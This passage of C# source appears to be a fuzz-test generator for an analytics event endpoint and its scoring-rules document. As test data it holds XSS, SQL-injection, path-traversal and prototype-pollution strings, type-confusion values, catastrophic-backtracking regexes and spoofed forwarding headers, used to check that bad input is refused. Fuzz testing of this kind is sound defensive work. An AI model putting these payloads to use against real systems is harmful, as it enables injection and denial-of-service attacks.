    private static readonly string[] EventNames = ["demo_requested", "whitepaper_download", "signup", "clicked_cta"];
    private static readonly string[] Emails = ["anna.berg@volvocars.com", "buyer@example.com", "cfo@fuzzcorp.example", "x@gmail.com"];
    private static readonly string[] StringFields = ["id", "type", "url", "referrer", "title", "name", "email"];
    private static readonly string[] EventFields = ["id", "type", "ts", "url", "referrer", "title", "engagedMs", "scroll", "name", "props", "email", "traits"];
    private static readonly string[] TopFields = ["site", "visitor", "session", "events"];
    private static readonly string[] NumberFields = ["ts", "engagedMs", "scroll"];
    private static readonly string[] UnknownTypes = ["click", "PageView", "PAGEVIEW", "page_view", "", " pageview", "pageview ", "__proto__", "constructor", "identify\u0000", "pageview\u200b"];
    private static readonly string[] WrongContentTypes =
        ["application/xml", "multipart/form-data; boundary=x", "image/png", "text/html", "application/x-www-form-urlencoded", "text/csv", "json", "application/octet-stream"];

    /// <summary>Content types routing cannot read, so the endpoint itself refuses them (after dropping bots).</summary>
    private static readonly string[] UnreadableContentTypes = [";;;", ";", ";charset=utf-8"];
    private static readonly string[] GoodContentTypes =
        ["text/plain", "application/json", "application/json; charset=utf-8", "TEXT/PLAIN; charset=UTF-16", "application/vnd.api+json", "text/plain;charset=us-ascii"];
    private static readonly string[] AllowedOrigins = ["http://localhost:5173", "http://127.0.0.1:8080", "http://localhost"];
    private static readonly string[] RefusedOrigins = ["https://evil.example", "null", "http://localhost.evil.example", "file://", "http://127.0.0.1.nip.io"];
    private static readonly string[] HostileForwarded =
        ["not-an-ip", "999.1.1.1", "198.51.100.1, 203.0.113.9", "::1", "[2001:db8::1]:80", "2001:db8::7", "10.0.0.1", "0.0.0.0", "", "192.0.2.1:443", "unknown"];
    private static readonly string[] Browsers =
    [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
        "<script>alert(1)</script>",
        "' OR 1=1 --",
    ];

    private static readonly (string Kind, int Weight)[] Kinds =
    [
        ("valid", 10), ("hostile-title", 6), ("hostile-strings", 10), ("wrong-types", 8), ("unknown-type", 4),
        ("timestamps", 5), ("duplicate-ids", 4), ("many-events", 4), ("huge-numbers", 5), ("deep-nesting", 4),
        ("unknown-fields", 3), ("mixed", 8), ("top-level", 4), ("truncated", 5), ("byte-flips", 5), ("invalid-utf8", 4),
        ("bom", 2), ("nul-bytes", 2), ("huge-strings", 3), ("size-limit", 3), ("empty", 1),
    ];

    private static readonly int TotalWeight = Kinds.Sum(k => k.Weight);

    public CollectCase Generate(int index)
    {
        var r = new Random(unchecked((seed * 1_000_003) + index));
        var roll = r.Next(TotalWeight);
        var kind = Kinds.SkipWhile(k => (roll -= k.Weight) >= 0).First().Kind;
        var c = Build(kind, index, r, new JsonDraft(r));
        return Transport(c, r);
    }

    private CollectCase Build(string kind, int index, Random r, JsonDraft draft)
    {
        var fresh = $"v_fz_{index:D5}_{r.Next(0x10000):x4}";
        switch (kind)
        {
            case "valid":
            {
                var batch = Batch(r, fresh, r.Next(1, 11), index);
                return new CollectCase(index, kind, draft.Render(batch), Expected.Accepted) { Visitor = fresh, ExpectEvents = Events(batch).Count };
            }

            case "hostile-title":
            {
                var batch = Batch(r, fresh, r.Next(1, 4), index);
                var title = r.Pick(Hostile.Titles);
                var pageview = PageView(r, index, 0);
                pageview["title"] = title;
                Events(batch)[0] = pageview;
                return new CollectCase(index, kind, draft.Render(batch), Expected.Accepted) { Visitor = fresh, ExpectTitle = title.Trim() };
            }

            case "hostile-strings":
            {
                var batch = Batch(r, fresh, r.Next(1, 4), index);
                for (var n = r.Next(1, 4); n > 0; n--)
                {
                    var value = r.Chance(0.15) ? draft.Raw(r.Pick(Hostile.LoneSurrogates)) : JsonValue.Create(r.Pick(Hostile.Strings));
                    switch (r.Next(6))
                    {
                        case 0:
                            batch[r.Pick(new[] { "site", "visitor", "session" })] = value;
                            break;
                        case 1:
                            RandomEvent(r, batch)["props"] = new JsonObject { [r.Pick(Hostile.Strings)] = value };
                            break;
                        case 2:
                            RandomEvent(r, batch)["url"] = "https://example.com/" + Uri.EscapeDataString(r.Pick(Hostile.Strings)) + "?q=" + r.Pick(Hostile.Strings);
                            break;
                        default:
                            RandomEvent(r, batch)[r.Pick(StringFields)] = value;
                            break;
                    }
                }

                return new CollectCase(index, kind, draft.Render(batch), Expected.Any);
            }

            case "wrong-types":
            {
                var batch = Batch(r, fresh, r.Next(1, 4), index);
                for (var n = r.Next(1, 3); n > 0; n--)
                {
                    if (r.Chance(0.3))
                    {
                        batch[r.Pick(TopFields)] = Hostile.WrongType(r, draft);
                    }
                    else if (batch["events"] is JsonArray { Count: > 0 } events)
                    {
                        if (r.Chance(0.2))
                        {
                            events[r.Next(events.Count)] = Hostile.WrongType(r, draft);
                        }
                        else if (events[r.Next(events.Count)] is JsonObject e)
                        {
                            e[r.Pick(EventFields)] = Hostile.WrongType(r, draft);
                        }
                    }
                }

                return new CollectCase(index, kind, draft.Render(batch), Expected.Any);
            }

            case "unknown-type":
            {
                var visitor = r.Chance(0.5) ? protectedVisitor : fresh;
                var batch = Batch(r, visitor, r.Next(1, 6), index);
                RandomEvent(r, batch)["type"] = r.Pick(UnknownTypes);
                return new CollectCase(index, kind, draft.Render(batch), Expected.Rejected) { Visitor = visitor, MustBeAbsent = visitor == fresh };
            }

            case "timestamps":
            {
                var batch = Batch(r, fresh, r.Next(1, 6), index);
                var accepted = true;
                foreach (var e in Events(batch).OfType<JsonObject>())
                {
                    if (r.Chance(0.8))
                    {
                        long[] clocks =
                        [
                            0, 1, -1, long.MinValue, long.MaxValue, now - (31L * 86_400_000), now - (29L * 86_400_000), now + 660_000,
                            now + (365L * 86_400_000), 253_402_300_799_999, -62_135_596_800_000, now - (100L * 365 * 86_400_000), now / 1000,
                        ];
                        e["ts"] = r.Pick(clocks);
                    }
                    else
                    {
                        e["ts"] = draft.Raw(r.Pick(new[] { "1.7e12", "1763900000000.5", "\"1763900000000\"", "\"2026-11-23T10:00:00Z\"", "9223372036854775808", "1e400", "-0" }));
                        accepted = false;
                    }
                }

                return new CollectCase(index, kind, draft.Render(batch), accepted ? Expected.Accepted : Expected.Any) { Visitor = fresh };
            }

            case "duplicate-ids":
            {
                var batch = Batch(r, fresh, r.Next(2, 12), index);
                var events = Events(batch).OfType<JsonObject>().ToList();
                foreach (var e in events.Skip(1).Where(_ => r.Chance(0.6)))
                {
                    e["id"] = events[r.Next(events.Count)]["id"]!.GetValue<string>();
                }

                var distinct = events.Select(e => e["id"]!.GetValue<string>()).Distinct(StringComparer.Ordinal).Count();
                return new CollectCase(index, kind, draft.Render(batch), Expected.Accepted) { Visitor = fresh, ExpectEvents = distinct };
            }

            case "many-events":
            {
                var visitor = r.Chance(0.5) ? protectedVisitor : fresh;
                var count = r.Next(4) switch
                {
                    0 => 100,
                    1 => r.Next(101, 400),
                    _ => r.Next(1000, 5000),
                };
                if (count == 100)
                {
                    visitor = fresh;
                }

                var events = new JsonArray();
                for (var i = 0; i < count; i++)
                {
                    events.Add(new JsonObject { ["id"] = $"e{i}", ["type"] = "pageview", ["url"] = $"https://example.com/p{i % 7}" });
                }

                var batch = new JsonObject { ["site"] = "demo", ["visitor"] = visitor, ["events"] = events };
                return new CollectCase(index, kind, draft.Render(batch), count == 100 ? Expected.Accepted : Expected.Rejected)
                {
                    Visitor = visitor,
                    ExpectEvents = count == 100 ? 100 : null,
                    MustBeAbsent = count > 100 && visitor == fresh,
                };
            }

            case "huge-numbers":
            {
                var batch = Batch(r, fresh, r.Next(1, 4), index);
                for (var n = r.Next(1, 4); n > 0; n--)
                {
                    var e = RandomEvent(r, batch);
                    if (r.Chance(0.8))
                    {
                        e[r.Pick(NumberFields)] = draft.Raw(r.Pick(Hostile.EdgeNumbers));
                    }
                    else
                    {
                        e["props"] = new JsonObject { ["n"] = draft.Raw(r.Pick(Hostile.EdgeNumbers)) };
                    }
                }

                return new CollectCase(index, kind, draft.Render(batch), Expected.Any);
            }

            case "deep-nesting":
            {
                var depth = r.Chance(0.3) ? 10_000 : r.Next(20, 5000);
                if (r.Chance(0.3))
                {
                    return new CollectCase(index, kind, Encoding.UTF8.GetBytes(Hostile.Nesting(r, depth)), Expected.Rejected);
                }

                var visitor = r.Chance(0.5) ? protectedVisitor : fresh;
                var batch = Batch(r, visitor, r.Next(1, 4), index);
                var e = RandomEvent(r, batch);
                if (r.Chance(0.3))
                {
                    batch["events"] = draft.Raw(Hostile.Nesting(r, depth));
                }
                else
                {
                    e[r.Pick(new[] { "props", "traits", "title", "url" })] = draft.Raw(Hostile.Nesting(r, depth));
                }

                return new CollectCase(index, kind, draft.Render(batch), Expected.Rejected) { Visitor = visitor, MustBeAbsent = visitor == fresh };
            }

            case "unknown-fields":
            {
                var batch = Batch(r, fresh, r.Next(1, 4), index);
                var safe = true;
                for (var n = r.Next(1, 4); n > 0; n--)
                {
                    JsonObject target = r.Chance(0.5) ? batch : RandomEvent(r, batch);
                    var name = r.Pick(new[] { "extra", "__proto__", "constructor", "prototype", "Admin", "isAdmin", "zz", "$type", "$id", "$ref", "SITE", "Visitor" });
                    if (name.StartsWith('$') || target.ContainsKey(name) || name is "SITE" or "Visitor")
                    {
                        safe = false;
                    }

                    target[name] = r.Next(3) switch
                    {
                        0 => new JsonObject { ["admin"] = true, ["nested"] = new JsonObject { ["a"] = new JsonArray(1, 2) } },
                        1 => r.Pick(Hostile.Strings),
                        _ => "System.IO.FileInfo, System.IO.FileSystem",
                    };
                }

                // A key that differs from a known one only in case replaces it (the last one wins): the visitor may be another.
                return new CollectCase(index, kind, draft.Render(batch), safe ? Expected.Accepted : Expected.Any) { Visitor = safe ? fresh : null };
            }

            case "mixed":
            {
                var visitor = r.Chance(0.5) ? protectedVisitor : fresh;
                var batch = Batch(r, visitor, r.Next(1, 8), index);
                var events = Events(batch);
                events.Insert(r.Next(events.Count + 1), BadEvent(r, index));
                return new CollectCase(index, kind, draft.Render(batch), Expected.Rejected) { Visitor = visitor, MustBeAbsent = visitor == fresh };
            }

            case "top-level":
                return TopLevel(index, r, draft, fresh);

            case "truncated":
            {
                var visitor = r.Chance(0.5) ? protectedVisitor : fresh;
                var body = draft.Render(Batch(r, visitor, r.Next(1, 6), index));
                return new CollectCase(index, kind, Hostile.Truncate(r, body), Expected.Rejected) { Visitor = visitor, MustBeAbsent = visitor == fresh };
            }

            case "byte-flips":
                // A flipped byte may turn the visitor id into another valid one, so no visitor is read back.
                return new CollectCase(index, kind, Hostile.Flip(r, draft.Render(Batch(r, fresh, r.Next(1, 6), index))), Expected.Any);

            case "invalid-utf8":
            {
                var body = draft.Render(Batch(r, fresh, r.Next(1, 4), index));
                for (var n = r.Next(1, 3); n > 0; n--)
                {
                    body = Hostile.InsertInString(r, body, r.Pick(Hostile.InvalidUtf8));
                }

                return new CollectCase(index, kind, body, Expected.Any) { Visitor = fresh };
            }

            case "bom":
            {
                var body = draft.Render(Batch(r, fresh, r.Next(1, 4), index));
                return new CollectCase(index, kind, r.Chance(0.7)
                    ? [0xEF, 0xBB, 0xBF, .. body]
                    : [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(body))], Expected.Any) { Visitor = fresh };
            }

            case "nul-bytes":
            {
                var visitor = r.Chance(0.5) ? protectedVisitor : fresh;
                var body = draft.Render(Batch(r, visitor, r.Next(1, 4), index));
                for (var n = r.Next(1, 4); n > 0; n--)
                {
                    body = r.Chance(0.5) ? Hostile.InsertInString(r, body, [0]) : Hostile.Insert(body, r.Next(body.Length + 1), [0]);
                }

                return new CollectCase(index, kind, body, Expected.Rejected) { Visitor = visitor, MustBeAbsent = visitor == fresh };
            }

            case "huge-strings":
            {
                var field = r.Pick(new[] { "title", "title", "url", "referrer", "name", "email", "id", "props", "visitor", "session", "site" });
                var batch = Batch(r, fresh, 1, index);
                var e = (JsonObject)Events(batch)[0]!;
                var text = Hostile.Long(r, r.Next(50_000, 60_001));
                switch (field)
                {
                    case "title":
                        e["type"] = "pageview";
                        e["url"] ??= "https://example.com/long";
                        e["title"] = text;
                        break;
                    case "url" or "referrer":
                        e[field] = "https://example.com/" + text;
                        break;
                    case "props":
                        // Identify reads traits, the other types props: too long either way.
                        e["props"] = new JsonObject { ["k"] = text };
                        e["traits"] = new JsonObject { ["k"] = text };
                        break;
                    case "visitor" or "session" or "site":
                        batch[field] = text;
                        break;
                    default:
                        e[field] = text;
                        break;
                }

                // A long title is cut, not refused; everything else that long is refused.
                return new CollectCase(index, kind, draft.Render(batch), field == "title" ? Expected.Accepted : Expected.Rejected)
                {
                    Visitor = field == "title" ? fresh : null,
                };
            }

            case "size-limit":
            {
                var over = r.Chance(0.6);
                var visitor = over && r.Chance(0.5) ? protectedVisitor : fresh;
                var batch = Batch(r, visitor, r.Next(1, 4), index);
                var body = draft.Render(batch);
                var target = over ? Limit + r.Next(1, r.Chance(0.5) ? 2 : 8000) : Limit;
                var padding = Encoding.ASCII.GetBytes(new string(r.Pick(new[] { ' ', '\n', '\t', '\r' }), Math.Max(0, target - body.Length)));
                body = r.Chance(0.5) ? [.. body, .. padding] : [.. padding, .. body];
                return new CollectCase(index, kind, body, over ? Expected.TooLarge : Expected.Accepted)
                {
                    Visitor = visitor,
                    ExpectEvents = over ? null : Events(batch).Count,
                };
            }

            default:
                return new CollectCase(index, kind, Encoding.ASCII.GetBytes(r.Pick(new[] { "", " ", "\n", "\r\n\t " })), Expected.Rejected);
        }
    }

    private CollectCase TopLevel(int index, Random r, JsonDraft draft, string fresh)
    {
        const string kind = "top-level";
        var batch = Batch(r, fresh, r.Next(1, 4), index);
        switch (r.Next(8))
        {
            case 0:
                batch["site"] = $"nosuchsite{r.Next(100)}";
                return new CollectCase(index, kind, draft.Render(batch), Expected.Forbidden);
            case 1:
                batch["site"] = r.Pick(new[] { "Demo", "de mo", "", "demo/../x", new string('d', 65), "démo" });
                break;
            case 2:
                batch["visitor"] = r.Pick(new[] { "short", "", new string('v', 65), "v_ünïcode_1", "v_123 4567", "v_12345678\n", "../../../etc" });
                break;
            case 3:
                batch["events"] = r.Chance(0.5) ? new JsonArray() : null;
                break;
            case 4:
                batch.Remove(r.Pick(new[] { "site", "visitor", "events" }));
                break;
            case 5:
                batch["session"] = r.Pick(new[] { new string('s', 65), "s 1", "s_\u0000" });
                break;
            case 6:
                return new CollectCase(index, kind, Encoding.UTF8.GetBytes(r.Pick(new[] { "null", "[]", "\"x\"", "0", "{}", "true", "[{}]", "{\"site\":\"demo\"}" })), Expected.Rejected);
            default:
                batch["events"] = new JsonObject { ["0"] = new JsonObject { ["id"] = "e_1", ["type"] = "pageview" } };
                break;
        }

        return new CollectCase(index, kind, draft.Render(batch), Expected.Rejected) { Visitor = fresh, MustBeAbsent = true };
    }

    /// <summary>Content types, chunked bodies, origins, forwarded addresses and bots around the body; the expectation follows.</summary>
    private static CollectCase Transport(CollectCase c, Random r)
    {
        var roll = r.NextDouble();
        var wrongType = roll < 0.03;
        var unreadableType = roll is >= 0.03 and < 0.035;
        var contentType = wrongType ? r.Pick(WrongContentTypes)
            : unreadableType ? r.Pick(UnreadableContentTypes)
            : roll < 0.07 ? null
            : roll < 0.25 ? r.Pick(GoodContentTypes)
            : "text/plain; charset=utf-8";
        var origin = r.NextDouble() switch
        {
            < 0.08 => r.Pick(AllowedOrigins),
            < 0.11 => r.Pick(RefusedOrigins),
            _ => null,
        };
        var forwarded = r.NextDouble() switch
        {
            < 0.88 => $"{r.Pick(new[] { "192.0.2", "198.51.100", "203.0.113" })}.{r.Next(1, 255)}",
            < 0.92 => r.Pick(HostileForwarded),
            _ => null,
        };
        var bot = r.Chance(0.02);
        var userAgent = bot
            ? "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
            : r.Chance(0.5) ? r.Pick(Browsers) : null;

        var expected = c.Expected;
        if (wrongType)
        {
            // The endpoint declares what it accepts: routing refuses other types before the handler runs.
            expected = Expected.Unsupported;
        }
        else if (bot)
        {
            // Bots are answered as if counted and dropped before the body is read.
            expected = Expected.Accepted;
        }
        else if (unreadableType)
        {
            expected = Expected.Unsupported;
        }
        else if (c.Body.Length > Limit)
        {
            expected = Expected.TooLarge;
        }
        else if (origin is not null && RefusedOrigins.Contains(origin) && expected == Expected.Accepted)
        {
            expected = Expected.Forbidden;
        }
        else if (expected == Expected.TooLarge)
        {
            expected = Expected.Any;
        }

        return c with
        {
            Expected = expected,
            ContentType = contentType,
            Chunked = r.Chance(0.05),
            Origin = origin,
            ForwardedFor = forwarded,
            UserAgent = userAgent,
            Bot = bot,
            MustBeAbsent = c.MustBeAbsent && expected == Expected.Rejected,
            ExpectTitle = expected == Expected.Accepted && !bot ? c.ExpectTitle : null,
            ExpectEvents = expected == Expected.Accepted && !bot ? c.ExpectEvents : null,
        };
    }

    private JsonObject Batch(Random r, string visitor, int count, int index)
    {
        var events = new JsonArray();
        for (var i = 0; i < count; i++)
        {
            events.Add(Event(r, index, i));
        }

        var batch = new JsonObject();
        if (r.Chance(0.3))
        {
            batch["events"] = events;
        }

        batch["site"] = "demo";
        batch["visitor"] = visitor;
        if (r.Chance(0.6))
        {
            batch["session"] = $"s_{r.Next():x}";
        }

        batch["events"] ??= events;
        return batch;
    }

    private static JsonArray Events(JsonObject batch) => (JsonArray)batch["events"]!;

    private static JsonObject RandomEvent(Random r, JsonObject batch)
    {
        var events = Events(batch);
        return (JsonObject)events[r.Next(events.Count)]!;
    }

    private JsonObject Event(Random r, int index, int i) => r.Next(10) switch
    {
        < 5 => PageView(r, index, i),
        < 7 => Stamp(r, new JsonObject
        {
            ["id"] = Id(r, index, i),
            ["type"] = "engagement",
            ["url"] = "https://example.com" + r.Pick(Paths),
            ["engagedMs"] = r.Next(0, 600_000),
            ["scroll"] = r.Next(0, 101),
        }),
        < 9 => Stamp(r, new JsonObject
        {
            ["id"] = Id(r, index, i),
            ["type"] = "event",
            ["name"] = r.Pick(EventNames),
            ["props"] = r.Chance(0.5) ? new JsonObject { ["plan"] = "pro", ["seats"] = r.Next(1, 500) } : null,
        }),
        _ => Stamp(r, new JsonObject
        {
            ["id"] = Id(r, index, i),
            ["type"] = "identify",
            ["email"] = r.Pick(Emails),
            ["traits"] = new JsonObject { ["title"] = "CFO" },
        }),
    };

    private JsonObject PageView(Random r, int index, int i)
    {
        var e = new JsonObject
        {
            ["id"] = Id(r, index, i),
            ["type"] = "pageview",
            ["url"] = "https://example.com" + r.Pick(Paths) + (r.Chance(0.3) ? "?utm_source=linkedin" : ""),
        };
        if (r.Chance(0.5))
        {
            e["referrer"] = r.Chance(0.5) ? "https://www.google.com/" : "";
        }

        if (r.Chance(0.6))
        {
            e["title"] = "Page " + r.Next(100);
        }

        return Stamp(r, e);
    }

    private JsonObject Stamp(Random r, JsonObject e)
    {
        if (r.Chance(0.8))
        {
            e["ts"] = now - r.NextInt64(0, 7L * 86_400_000);
        }

        return e;
    }

    private static string Id(Random r, int index, int i) => $"e_{index:x}_{i}_{r.Next(0x100000):x}";

    /// <summary>An event the parser must refuse, whatever else the batch holds.</summary>
    private JsonNode? BadEvent(Random r, int index)
    {
        var e = PageView(r, index, 999);
        switch (r.Next(13))
        {
            case 0:
                e["url"] = r.Pick(new[] { "javascript:alert(1)", "ftp://example.com/x", "/relative", "https://", "data:text/html,<script>alert(1)</script>", "" });
                break;
            case 1:
                e["type"] = r.Pick(UnknownTypes);
                break;
            case 2:
                e["id"] = r.Pick(new[] { "bad id!", new string('e', 65), "", "e_<script>", "e_'; DROP TABLE x;--" });
                break;
            case 3:
                e["type"] = "engagement";
                e["engagedMs"] = r.Pick(new long[] { -1, 86_400_001, long.MaxValue });
                break;
            case 4:
                e["type"] = "engagement";
                e["scroll"] = r.Pick(new[] { -1, 101, int.MaxValue });
                break;
            case 5:
                e["type"] = "event";
                e["name"] = r.Pick(new[] { "", "   ", new string('n', 101), "tab\there" });
                break;
            case 6:
                e["type"] = "identify";
                e["email"] = r.Pick(new[] { "not-an-email", "a@b", "<script>@x.com", "\"a b\"@example.com\u0000", "" });
                break;
            case 7:
                e["props"] = new JsonArray(1, 2);
                break;
            case 8:
                e["ts"] = "yesterday";
                break;
            case 9:
                return null;
            case 10:
                return r.Chance(0.5) ? (JsonNode)42 : "pageview";
            case 11:
                e["props"] = new JsonObject { ["k"] = new string('p', 5000) };
                break;
            default:
                e["url"] = "https://example.com/" + new string('u', 2100);
                break;
        }

        return e;
    }
}

/// <summary>
/// Hostile rules documents: the document in force mutated (wrong types, unknown fields, edge numbers,
/// catastrophic and unsupported regexes, deep nesting, huge arrays, extreme but valid values) or broken at
/// the byte level.
/// </summary>
internal sealed class HostileRules(int seed, string original)
{
    private static readonly string[] Regexes =
    [
        "re:(a+)+$", "re:(a|aa)+$", "re:(a|a?)+$", "re:^(\\w+\\s?)*$", "re:(.*a){20}", "re:(?<product>(x+x+)+y)",
        "re:^(([a-z])+.)+[A-Z]([a-z])+$", "re:(", "re:)", "re:[", "re:\\", "re:(?<=a)b", "re:(a)\\1", "re:(?>a+)b",
        "re:a{2147483647}", "re:a{1000}{1000}", "re:(a{1,100}){1,100}", "re:((a{1,50}){1,50}){1,50}", "re:.{0,65535}",
        "re:(?<product>)", "re:(?<product>.*)", "re:^/products/(?<product>[a-z0-9-]+)", "re:(?i)ß", "re:\\G", "re:$^",
        "re:", "re:\u0000", "re:\\p{IsNotABlock}", "re:(?<product>[^/]+)(?<product>x)", "re:(?(a)b|c)", "re:[\\d-z]",
        "re:" + new string('(', 200) + new string(')', 200), "re:" + string.Concat(Enumerable.Repeat("(a|b)*", 80)),
        "re:" + string.Concat(Enumerable.Repeat("[a-z]?", 90)) + "x", "/**", "/**/**/**/**/**", "/*?*?*?*?*?*?*?*?",
        "/" + string.Concat(Enumerable.Repeat("*/", 240)), "/" + new string('*', 499), "/" + new string('x', 600), "/?", "*",
        "pricing", "", "/pricing\u0000", "/pri[cing", "/pri(cing*", "/\\*",
    ];

    private static readonly string[] Categories = ["pricing", "contact", "demo", "case-study", "product", "blog", "careers", "support", "docs", "about", "integration", "comparison", "webinar", "download", "legal", "other"];

    /// <summary>Values validation lets through although no marketer would write them.</summary>
    private static readonly string[] Extremes =
    [
        "{\"engagement\":{\"pointsPerMinute\":1e308,\"max\":1e308}}",
        "{\"engagement\":{\"pointsPerMinute\":5e-324,\"max\":0}}",
        "{\"returnVisit\":{\"points\":1e308,\"withinDays\":1e308}}",
        "{\"returnVisit\":{\"points\":-1e308,\"withinDays\":5e-324}}",
        "{\"returnVisit\":{\"points\":-1e308,\"withinDays\":30}}",
        "{\"returnVisit\":{\"points\":-1.7976931348623157e308,\"withinDays\":30},\"decay\":{\"halfLifeDays\":0}}",
        "{\"decay\":{\"halfLifeDays\":5e-324}}",
        "{\"decay\":{\"halfLifeDays\":1e308}}",
        "{\"decay\":{\"halfLifeDays\":0}}",
        "{\"thresholds\":{\"warm\":5e-324,\"hot\":1e308,\"mql\":5e-324}}",
        "{\"thresholds\":{\"warm\":1e307,\"hot\":1e308,\"mql\":1e308}}",
        "{\"caps\":{\"pricing\":5e-324,\"product\":1e308}}",
        "{\"alerts\":{\"cooldownHours\":8760,\"surge\":{\"visitors\":2147483647,\"days\":1e308}}}",
        "{\"alerts\":{\"cooldownHours\":0,\"surge\":{\"visitors\":2,\"days\":5e-324}}}",
        "{\"icp\":{\"industries\":[null,\"\"],\"minEmployees\":-2147483648,\"maxEmployees\":2147483647,\"minRevenue\":-79228162514264337593543950335,\"maxRevenue\":79228162514264337593543950335,\"minFit\":1}}",
        "{\"icp\":{\"industries\":[\"automotive\"],\"countries\":[\"se\"],\"minFit\":100}}",
        "{\"routing\":{\"territories\":{\"SE\":\"<script>alert(1)</script>\"},\"salespeople\":[\"'; DROP TABLE users;--\"]}}",
        "{\"pages\":[{\"match\":\"/pricing*\",\"category\":\"pricing\",\"points\":1000,\"highIntent\":true},{\"match\":\"re:.*\",\"category\":\"other\",\"points\":-1000}]}",
        "{\"events\":[{\"name\":\"demo_requested\",\"points\":1000},{\"name\":\"demo_requested\",\"points\":-1000}]}",
    ];

    private static readonly (string Kind, int Weight)[] Kinds =
    [
        ("valid-tweak", 8), ("extremes", 12), ("wrong-types", 14), ("edge-numbers", 14), ("unknown-fields", 8), ("removed-fields", 5),
        ("regexes", 12), ("hostile-strings", 8), ("deep-nesting", 5), ("big-arrays", 4), ("bytes", 8), ("junk", 2),
    ];

    private static readonly int TotalWeight = Kinds.Sum(k => k.Weight);

    public (string Kind, byte[] Body, string? ContentType) Generate(int index)
    {
        var r = new Random(unchecked((seed * 7_919) + index + 17));
        var roll = r.Next(TotalWeight);
        // Every extreme document is tried at least once, whatever the seed; the rest are drawn.
        var kind = index < Extremes.Length ? "extremes" : Kinds.SkipWhile(k => (roll -= k.Weight) >= 0).First().Kind;
        var draft = new JsonDraft(r);
        var document = JsonNode.Parse(original)!.AsObject();
        byte[] body;
        switch (kind)
        {
            case "valid-tweak":
            {
                var warm = r.Next(1, 50);
                document["thresholds"] = new JsonObject { ["warm"] = warm, ["hot"] = warm + r.Next(1, 100), ["mql"] = r.Next(1, 100) };
                ((JsonArray)document["pages"]!).Add(new JsonObject
                {
                    ["match"] = $"/x{r.Next(1000)}*",
                    ["category"] = r.Pick(Categories),
                    ["points"] = r.Next(-100, 101),
                    ["highIntent"] = r.Chance(0.5),
                });
                document["engagement"] = new JsonObject { ["pointsPerMinute"] = Math.Round(r.NextDouble() * 10, 2), ["max"] = r.Next(0, 100) };
                body = draft.Render(document);
                break;
            }

            case "extremes":
                foreach (var (key, value) in JsonNode.Parse(index < Extremes.Length ? Extremes[index] : r.Pick(Extremes))!.AsObject().ToList())
                {
                    document[key] = value!.DeepClone();
                }

                body = draft.Render(document);
                break;

            case "wrong-types":
                for (var n = r.Next(1, 4); n > 0; n--)
                {
                    var (parent, key) = r.Pick(JsonDraft.Slots(document));
                    JsonDraft.Set(parent, key, Hostile.WrongType(r, draft));
                }

                body = draft.Render(document);
                break;

            case "edge-numbers":
                for (var n = r.Next(1, 4); n > 0; n--)
                {
                    var numbers = JsonDraft.Slots(document).Where(s => JsonDraft.Get(s.Parent, s.Key) is JsonValue v && v.GetValueKind() == JsonValueKind.Number).ToList();
                    var (parent, key) = r.Pick(numbers);
                    JsonDraft.Set(parent, key, draft.Raw(r.Pick(Hostile.EdgeNumbers)));
                }

                body = draft.Render(document);
                break;

            case "unknown-fields":
                for (var n = r.Next(1, 4); n > 0; n--)
                {
                    var objects = JsonDraft.Slots(document).Select(s => JsonDraft.Get(s.Parent, s.Key)).OfType<JsonObject>().Append(document).ToList();
                    r.Pick(objects)[r.Pick(new[] { "extra", "$type", "$id", "$ref", "__proto__", "Points", "MATCH", "pages2", "Thresholds" })] =
                        r.Chance(0.5) ? Hostile.WrongType(r, draft) : "System.IO.FileInfo, System.IO.FileSystem";
                }

                body = draft.Render(document);
                break;

            case "removed-fields":
                for (var n = r.Next(1, 4); n > 0; n--)
                {
                    var (parent, key) = r.Pick(JsonDraft.Slots(document));
                    JsonDraft.Remove(parent, key);
                }

                body = draft.Render(document);
                break;

            case "regexes":
            {
                var pages = (JsonArray)document["pages"]!;
                for (var n = r.Next(1, 4); n > 0; n--)
                {
                    pages[r.Next(pages.Count)]!["match"] = r.Pick(Regexes);
                }

                body = draft.Render(document);
                break;
            }

            case "hostile-strings":
                for (var n = r.Next(1, 4); n > 0; n--)
                {
                    var strings = JsonDraft.Slots(document).Where(s => JsonDraft.Get(s.Parent, s.Key) is JsonValue v && v.GetValueKind() == JsonValueKind.String).ToList();
                    var (parent, key) = r.Pick(strings);
                    JsonDraft.Set(parent, key, r.Chance(0.2) ? draft.Raw(r.Pick(Hostile.LoneSurrogates)) : r.Chance(0.1) ? Hostile.Long(r, 60_000) : r.Pick(Hostile.Strings));
                }

                body = draft.Render(document);
                break;

            case "deep-nesting":
            {
                var nesting = Hostile.Nesting(r, r.Chance(0.3) ? 10_000 : r.Next(60, 3000));
                if (r.Chance(0.2))
                {
                    body = Encoding.UTF8.GetBytes(nesting);
                    break;
                }

                var (parent, key) = r.Pick(JsonDraft.Slots(document));
                JsonDraft.Set(parent, key, draft.Raw(nesting));
                body = draft.Render(document);
                break;
            }

            case "big-arrays":
            {
                var count = r.Next(100, 1500);
                var array = new JsonArray();
                for (var i = 0; i < count; i++)
                {
                    array.Add(r.Next(3) switch
                    {
                        0 => new JsonObject { ["match"] = $"/p{i}/*", ["category"] = r.Pick(Categories), ["points"] = i % 50 },
                        1 => new JsonObject { ["match"] = $"/q{i}", ["category"] = "blog", ["points"] = 1 },
                        _ => new JsonObject { ["match"] = $"re:^/r{i}/(?<product>[a-z]+)", ["category"] = "product", ["points"] = 2 },
                    });
                }

                var target = r.Pick(new[] { "pages", "events", "caps" });
                document[target] = target switch
                {
                    "pages" => array,
                    "events" => new JsonArray(Enumerable.Range(0, count).Select(i => (JsonNode?)new JsonObject { ["name"] = $"e{i}", ["points"] = i % 7 }).ToArray()),
                    _ => new JsonObject(Enumerable.Range(0, count).Select(i => KeyValuePair.Create($"c{i}", (JsonNode?)JsonValue.Create(i)))),
                };
                body = draft.Render(document);
                break;
            }

            case "bytes":
                (kind, body, _) = Hostile.Bytes(r, draft.Render(document));
                kind = "bytes:" + kind;
                break;

            default:
                body = Encoding.UTF8.GetBytes(r.Pick(new[] { "", " ", "null", "[]", "{}", "\"rules\"", "0", "true", "{\"pages\":null,\"events\":null,\"thresholds\":null,\"alerts\":null,\"caps\":null}", "{\"pages\":[null],\"events\":[null]}" }));
                break;
        }

        var contentType = r.NextDouble() switch
        {
            < 0.85 => "application/json",
